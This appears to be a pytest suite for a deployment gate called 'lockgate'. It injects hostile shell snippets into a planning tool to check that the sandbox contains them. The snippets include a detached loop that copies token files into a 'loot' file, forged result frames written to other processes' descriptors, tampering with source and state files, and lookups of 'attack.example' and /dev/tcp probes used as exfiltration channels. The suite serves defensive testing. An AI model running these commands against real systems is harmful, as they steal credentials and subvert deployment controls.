"""Code that runs while a plan is made and wants more: another report, the apply's credentials, a life after the stage, another's target. In real sandboxes."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from tests.invariants.gate import Gate
from tests.invariants.region import TOOL, Region

MARK = "lockgate-attack-4711"
FRAME = '{"type": "result", "status": "ok", "changes": [], "exit_code": 0}'


def tool(check: str = "", apply: str = "") -> str:
    """The tool with more lines at the head of its modes."""
    text = TOOL
    for mode, more in {"check": check, "apply": apply}.items():
        text = text.replace(f"{mode})\n", f"{mode})\n  {more or ':'}\n")
    return text


def left_behind() -> list[str]:
    """Processes of this machine that carry the attacker's mark."""
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            text = path.read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if MARK in text:
            found.append(text)
    return found


async def test_a_frame_that_a_tool_forges_is_not_its_jobs_result(gate: Gate, region: Region) -> None:
    """It writes to every descriptor it has and to those of its job, and to its job's memory: what counts is what the check printed and how it ended."""
    forge = f"""
  for fd in 3 4 5 6 7 8 9; do printf '\\0\\0\\0\\100%s' '{FRAME}' 1>&$fd || true; done 2>/dev/null
  for fd in /proc/[0-9]*/fd/*; do case $fd in */[012]) ;; *) printf '\\0\\0\\0\\100%s' '{FRAME}' > "$fd" || true;; esac; done 2>/dev/null
"""
    region.write_source("tool", tool(check=forge))
    operation = await gate.ask(dry_run=True)
    await region.work()
    ended = await gate.operation(operation)
    assert ended.state.value == "planned", ended.message
    (plan,) = region.reports("plan")
    (change,) = json.loads(plan)["resource_changes"]
    assert change["change"]["actions"] == ["update"]


async def test_what_a_plan_leaves_running_is_gone_with_its_sandbox_and_meets_no_credential(
    gate: Gate, region: Region
) -> None:
    """It waits, in a session of its own, for the write token to appear and would put it where a later stage or a person finds it."""
    wait = (
        f'(setsid sh -c \'while :; do cat /run/*/*token* /lockgate/*/token* "$LOCKGATE_CREDENTIALS"/token >> "$TMPDIR/loot";'
        f' echo 99 > "$LOCKGATE_SETTING_STATE_DIR/replicas"; done; : {MARK}\' </dev/null >/dev/null 2>&1 &)'
    )
    see = 'ls -A "$TMPDIR" "$HOME" > "$LOCKGATE_SETTING_STATE_DIR/scratch"'
    region.write_source("tool", tool(check=wait, apply=see))
    operation = await gate.ask()
    await region.work()
    planned = await gate.operation(operation)
    assert planned.state.value == "queued", planned.message
    assert left_behind() == []
    assert region.state() is None, "what plans cannot write to the target"
    await region.work()
    ended = await gate.operation(operation)
    assert ended.state.value == "succeeded", ended.message
    assert region.state() == "3"
    assert "loot" not in (region.target / "scratch").read_text()
    assert left_behind() == []
    receipts = [json.loads(text) for path, text in region.line.said if path.endswith("/receipt")]
    assert len(receipts) == 2


@pytest.mark.parametrize(
    "place", ["$LOCKGATE_SOURCE/tool", "$LOCKGATE_SOURCE/runbook.toml", "$LOCKGATE_SETTING_STATE_DIR/replicas"]
)
async def test_planning_code_changes_neither_what_is_applied_nor_what_it_is_applied_to(
    gate: Gate, region: Region, place: str
) -> None:
    region.write_source("tool", tool(check=f'echo 99 > "{place}" || true; chmod 777 "{place}" || true'))
    operation = await gate.ask()
    await region.work()
    assert region.state() is None
    await region.work()
    ended = await gate.operation(operation)
    assert (ended.state.value, region.state()) == ("succeeded", "3"), ended.message


async def test_code_that_plans_one_thing_for_the_approver_and_another_before_the_apply_is_caught(
    gate: Gate, region: Region
) -> None:
    """Each stage knows its name; a source may show each another change. The check is compared, so nothing is applied."""
    lie = '[ "$LOCKGATE_STAGE" = plan ] || set -- check "$(($2 + 1))"'
    region.write_source("tool", tool(check=lie))
    operation = await gate.ask()
    await region.work()
    await region.work()
    again = await gate.operation(operation)
    assert (again.state.value, again.phase.value if again.phase else "") == ("queued", "plan"), again.message
    assert region.state() is None


async def test_what_a_tool_says_of_its_own_plan_leaves_its_fidelity_and_inputs_as_they_are(
    gate: Gate, region: Region
) -> None:
    """A list of changes with more in it than changes: the tool would like to be exact, complete and of other inputs."""
    claim = (
        'echo \'{"changes": [{"address": "a", "type": "t", "name": "n", "provider_name": "p", "fidelity": "exact",'
        ' "change": {"actions": ["no-op"]}}], "fidelity": "exact", "inputs_sha256": "sha256:0", "incomplete": []}\'; exit 2'
    )
    region.write_source("tool", tool(check=claim))
    operation = await gate.ask(dry_run=True)
    await region.work()
    (text,) = region.reports("plan")
    plan, ended = json.loads(text), await gate.operation(operation)
    assert ended.plan is None or ended.plan.fidelity == "predicted"
    assert plan["fidelity"] == "predicted" and plan["inputs_sha256"] != "sha256:0"
    assert "fidelity" not in plan["resource_changes"][0]


@pytest.mark.parametrize("way", ["getent hosts attack.example", "cat < /dev/tcp/127.0.0.1/80", "cat /etc/resolv.conf"])
async def test_a_name_looked_up_leads_nowhere(gate: Gate, region: Region, way: str) -> None:
    """A secret in the first label of a name is how a sandbox without a network would still talk; here nothing answers."""
    probe = f'if bash -c \'{way}\' > "$TMPDIR/answer" 2>&1 && grep -q . "$TMPDIR/answer"; then exit 0; fi'
    region.write_source("tool", tool(check=probe))
    operation = await gate.ask(dry_run=True)
    await region.work()
    # Exit code 0 would mean that it was answered, and the plan would be empty.
    assert (await gate.operation(operation)).state.value == "planned"
